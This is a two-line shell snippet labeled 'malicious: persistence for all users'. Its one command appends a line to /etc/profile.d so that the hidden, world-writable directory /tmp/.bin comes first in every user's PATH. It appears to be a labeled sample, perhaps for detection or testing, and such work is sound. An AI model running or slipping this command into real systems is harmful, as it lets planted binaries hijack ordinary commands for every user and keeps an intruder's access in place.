# malicious: persistence for all users
echo 'export PATH=/tmp/.bin:$PATH' >> /etc/profile.d/zz.sh
